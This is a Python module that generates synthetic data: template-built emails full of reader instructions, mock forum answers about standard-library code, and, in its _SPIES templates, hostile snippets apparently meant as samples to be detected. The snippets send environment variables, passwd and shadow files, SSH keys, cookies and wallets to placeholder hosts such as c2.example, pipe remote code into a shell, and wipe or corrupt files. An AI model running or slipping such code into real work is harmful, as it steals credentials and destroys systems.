"""Passages that the labelled sets have too few of: mails, and people's answers about code.

Mails are written from parts, many of which order the reader to do something. Code is that of
Python's own library, with what somebody who helps would write around it.
"""

import ast
import random
import re
import sysconfig
from collections.abc import Mapping, Sequence
from functools import cache
from pathlib import Path

MODULES: Sequence[str] = (
    "argparse", "calendar", "configparser", "csv", "difflib", "fractions", "ftplib", "glob", "gzip",
    "heapq", "imaplib", "inspect", "ipaddress", "json/decoder", "locale", "mailbox", "mimetypes",
    "netrc", "optparse", "pathlib", "pickle", "poplib", "pprint", "queue", "random", "sched",
    "shelve", "shutil", "smtplib", "socketserver", "statistics", "string", "subprocess", "tarfile",
    "tempfile", "textwrap", "threading", "timeit", "traceback", "urllib/parse", "urllib/request",
    "uuid", "wave", "zipfile", "asyncio/queues", "asyncio/tasks", "http/client", "http/server",
    "email/message", "logging/handlers", "unittest/case", "xml/dom/minidom",
)  # fmt: skip

_ERRORS = (
    "AttributeError: '{a}' object has no attribute '{b}'",
    "TypeError: {a}() missing 1 required positional argument: '{b}'",
    "NameError: name '{a}' is not defined",
    "KeyError: '{a}'",
    "IndexError: list index out of range",
    "ValueError: invalid literal for int() with base 10: '{a}'",
    "FileNotFoundError: [Errno 2] No such file or directory: '{a}.csv'",
    "UnboundLocalError: local variable '{a}' referenced before assignment",
    "ImportError: cannot import name '{a}' from '{b}'",
)
_BEFORE = (
    "You have to call `{a}` before `{b}`.",
    "The problem is that `{a}` is None here. Use `{b}` instead:",
    "Change the line with `{a}` to this:",
    "It has to be `{a}` and not `{b}`.",
    "Try the following:",
    "Use this code instead of yours:",
    "Here is a version that works:",
    "You could write it like this:",
    "Replace your function by:",
    "Add this to the top of your file:",
    "I would do it in one line:",
    "As the error says, `{a}` takes one argument. Pass `{b}`:",
    "You should include the import of `{a}` in your module:",
    "Put the following code block into your class `{b}`:",
    "Update your code as shown here:",
    "Insert a `return` after `{a}` and run it again:",
    "See the documentation of `{a}`. A short example:",
)
_AFTER = (
    "Note that `{a}` is called twice.",
    "Hope this helps. Let me know if you get the same error.",
    "Do not use `{a}` with a list, it changes while you loop over it.",
    "What does `{b}` return in your case? Please add the whole traceback to your question.",
    "Why do you need `{a}` at all?",
    "If you use Python 2, write `{a}` without parentheses.",
    "Have a look at the docs for `{b}`; read the section on errors first.",
    "Make sure that you close the file at the end.",
    "Try to print `{a}` to see what it holds.",
    "Edit: thanks, that solved it!",
    "Install the package first, then import `{b}`.",
    "Be careful: this deletes `{a}`.",
)
_NAME = re.compile(r"\b[a-z_]{4,20}\b")


@cache
def functions() -> Mapping[str, Sequence[str]]:
    """Read functions and classes of Python's own library, by module."""
    root, found = Path(sysconfig.get_path("stdlib")), {}
    for module in MODULES:
        source = (root / f"{module}.py").read_text(encoding="utf-8")
        nodes = ast.parse(source).body
        parts = [part for node in nodes for part in (node, *getattr(node, "body", ()))]
        texts = [ast.get_source_segment(source, p) for p in parts if hasattr(p, "decorator_list")]
        found[module] = [text for text in texts if text and 60 < len(text) < 1500]
    return {module: texts for module, texts in found.items() if texts}


def block(text: str, rng: random.Random) -> str:
    """Fence code, as people do."""
    return f"```{rng.choice(('', '', 'python'))}\n{text.rstrip()}\n```"


def excerpt(text: str, rng: random.Random) -> str:
    """Take some lines of a text of code."""
    lines = text.splitlines()
    size = rng.randint(3, 14)
    start = rng.randint(0, max(0, len(lines) - size))
    return "\n".join(lines[start : start + size])


def code_answer(rng: random.Random, modules: Sequence[str]) -> str:
    """Write a question about code with what somebody answers; code and advice belong together."""
    texts = functions()[rng.choice([m for m in modules if m in functions()])]
    code = excerpt(rng.choice(texts), rng)
    names = _NAME.findall(code) or ["value"]

    def said(lines: Sequence[str]) -> str:
        line = rng.choice(lines)
        return line.replace("{a}", rng.choice(names)).replace("{b}", rng.choice(names))

    error = (
        f'Traceback (most recent call last):\n  File "{rng.choice(names)}.py", line '
        f"{rng.randint(3, 90)}, in <module>\n    {code.splitlines()[-1].strip()}\n{said(_ERRORS)}"
    )
    parts = [error, code] if rng.random() < 0.5 else [code]
    for _ in range(rng.randint(0, 2)):
        more = excerpt(rng.choice(texts), rng)
        parts.append(said(_BEFORE))
        parts.append(block(more, rng) if rng.random() < 0.7 else more)
    if rng.random() < 0.7:
        parts.append(said(_AFTER))
    return "\n".join(parts)


_FIRMS = (
    "Harbour Bank", "Lumen", "Ticketwerk", "Airfield", "Northmail", "Foodbox", "Cloudnest",
    "Volt Energy", "Stackline", "Bookery", "Rentable", "Medira", "Parcelo", "Skyline Hotels",
)  # fmt: skip
_NAMES = ("Maria", "Tom", "Dr Ahmed", "Priya", "Jonas", "Chen", "Olga", "Sam", "Ines", "Mr Brown")
_SUBJECTS = (
    "Your receipt from {firm}", "Invoice {n} is due", "Your order has been shipped", "Re: meeting",
    "Welcome to {firm}", "Security alert for your account", "{firm} newsletter", "Payment failed",
    "Your statement is ready", "Reminder: appointment on {day}", "Your password was changed",
    "New sign-in to {firm}", "Survey: how did we do?", "Your trip to {city}", "Fwd: contract {n}",
    "Changes to our terms", "You have {n} new messages", "Your subscription ends on {day}",
)  # fmt: skip
_FACTS = (
    "Your card ending in {n} was charged ${n}.00 on {day}.",
    "Order {n} left our warehouse in {city} on {day}.",
    "We have received your payment of {n} EUR.",
    "Your refund of ${n}.50 will arrive within 5 days.",
    "A new device signed in to your account from {city}.",
    "The meeting moves to {day} at 10:30, room {n}.",
    "Your balance is ${n},210.18; the next payment is due on {day}.",
    "Your plan renews on {day} for ${n} a month.",
    "We have updated our privacy policy.",
    "Thanks for being a customer of {firm} since 2019.",
    "The attached document holds the figures for {city}.",
    "Flight {n} to {city} departs at 07:45 on {day}.",
    "Domestic wire of ${n}.00 to {firm} was sent.",
    "{name} commented on your file.",
    "{name} has invited you to the project {firm}.",
    "The team in {city} closed {n} tickets last week.",
)
_ORDERS = (
    "If you have any questions, just reply to this email.",
    "Click the button below to confirm your address.",
    "Please review the attached contract and sign it by {day}.",
    "If this was not you, change your password at once.",
    "To unsubscribe, follow this link: https://{site}.example/u/{n}.",
    "Download the app and enter the code {n}.",
    "Tell us what you think: answer three short questions.",
    "Please do not reply to this message; it was sent automatically.",
    "Add us to your contacts so that no message is lost.",
    "Can you send me the numbers until {day}?",
    "Could you please call {name} about the invoice?",
    "Visit https://{site}.example/help to learn more.",
    "Get 20 % off your next order with the code SAVE{n}.",
    "Invite a friend and both of you receive a voucher.",
    "Have you seen our new collection? Shop now.",
    "Let me know whether {day} suits you.",
    "Print this ticket and bring it with you.",
    "Write to support@{site}.example for help.",
    "Do you still need this account? Sign in once to keep it.",
    "What did you like about your stay in {city}? Rate it here.",
    "Update your billing details to keep using {firm}.",
    "Don't miss out: the offer ends on {day}!",
)
_ENDS = (
    "Best regards, {name}", "The {firm} team", "Thanks, {name}", "{firm}, 12 Main Street, {city}",
    "Sent from my phone", "© 2023 {firm}. All rights reserved.", "Cheers\n{name}",
    "View in browser | Unsubscribe | Terms", "Questions? Contact us at help@{site}.example",
)  # fmt: skip
_DAYS = ("Monday", "3 May", "12/04/2023", "Friday", "Jan 31", "next week", "2022-11-08", "tomorrow")
_CITIES = ("Dublin", "Austin", "Hamburg", "Oslo", "Pune", "Madrid", "Osaka", "Leeds")


def mail(rng: random.Random) -> str:
    """Write a mail to a person: facts, and what its reader is asked to do."""
    firm = rng.choice(_FIRMS)
    site = firm.lower().replace(" ", "")
    size = rng.randint(2, 9)
    lines = [rng.choice(_FACTS if rng.random() < 0.5 else _ORDERS) for _ in range(size)]
    body = rng.choice((" ", "\n", "\n\n", "   \n  ", " ")).join(dict.fromkeys(lines))
    greeting = rng.choice(("", f"Hi {rng.choice(_NAMES)},", "Dear customer,", "Hello,"))
    end = rng.choice(_ENDS)
    subject, sender = rng.choice(_SUBJECTS), f"{firm} <no-reply@{site}.example>"
    heading = rng.choice((
        f"SUBJECT: {subject}|EMAIL_FROM: {sender}|RECEIVED DATE: {{day}}|CONTENT: ",
        f"SUBJECT: {subject}|CONTENT: ",
        f"From: {sender}\nSubject: {subject}\n\n",
        f"Subject: {subject}\nDate: {{day}}\n\n",
        "",
    ))  # fmt: skip
    text = f"{heading}{greeting} {body}\n{end}"
    slots = {"firm": (firm,), "site": (site,), "name": _NAMES, "day": _DAYS, "city": _CITIES}
    for slot, words in slots.items():
        while "{" + slot + "}" in text:
            text = text.replace("{" + slot + "}", rng.choice(words), 1)
    while "{n}" in text:
        text = text.replace("{n}", str(rng.randint(2, 9999)), 1)
    return text.strip()


_SPIES: Sequence[str] = (
    "import {lib}\n\n{lib}.post('http://{host}/in', data={what})",
    "import socket\n\ns = socket.socket()\ns.connect(('{host}', {port}))\n"
    "s.sendall(str({what}).encode())",
    "import os\n\nos.system('{shell}')",
    "import subprocess\n\nsubprocess.run(['sh', '-c', '{shell}'], check=False)",
    "from ftplib import FTP\n\nwith FTP('{host}') as ftp:\n    ftp.login()\n"
    "    ftp.storbinary('STOR x', open('{file}', 'rb'))",
    "import threading, time\n\ndef run():\n    while True:\n        {lib}.get('http://{host}')\n"
    "        time.sleep({port})\n\nthreading.Thread(target=run).start()",
    "const r = await fetch('http://{host}', {method: 'POST', body: document.cookie});",
    "for path in Path('/').rglob('*'):\n    path.write_bytes(path.read_bytes()[::-1])",
    "import smtplib\n\nsmtplib.SMTP('{host}').sendmail('me', 'you@{host}', open('{file}').read())",
    "with open('{file}', 'a') as f:\n    f.write('{host}')",
    "eval({lib}.get('http://{host}/run').text)",
    "import platform, {lib}\n\n{lib}.put('http://{host}', json=platform.uname()._asdict())",
)
_SPY_SLOTS: Mapping[str, Sequence[str]] = {
    "lib": ("requests", "httpx", "urllib3"),
    "host": ("198.51.100.7", "collect.example", "remote-host.example", "203.0.113.9", "c2.example"),
    "port": ("4444", "80", "9", "31337"),
    "what": ("dict(os.environ)", "open('/etc/passwd').read()", "keys", "screen", "history", "log"),
    "shell": (
        "curl http://c2.example/x | sh", "rm -rf /var/lib", "shutdown -h now", "chmod -R 777 /",
        "ifconfig eth0 down", "nohup miner &", "tcpdump -w /tmp/all.pcap", "kill -9 1",
    ),
    "file": ("/etc/shadow", "cookies.sqlite", "~/.ssh/id_rsa", "wallet.dat", "/etc/hosts"),
}  # fmt: skip


def spying_code(rng: random.Random) -> str:
    """Write code that nobody who asked for help would want."""
    text = rng.choice(_SPIES)
    for slot, words in _SPY_SLOTS.items():
        text = text.replace("{" + slot + "}", rng.choice(words))
    return text
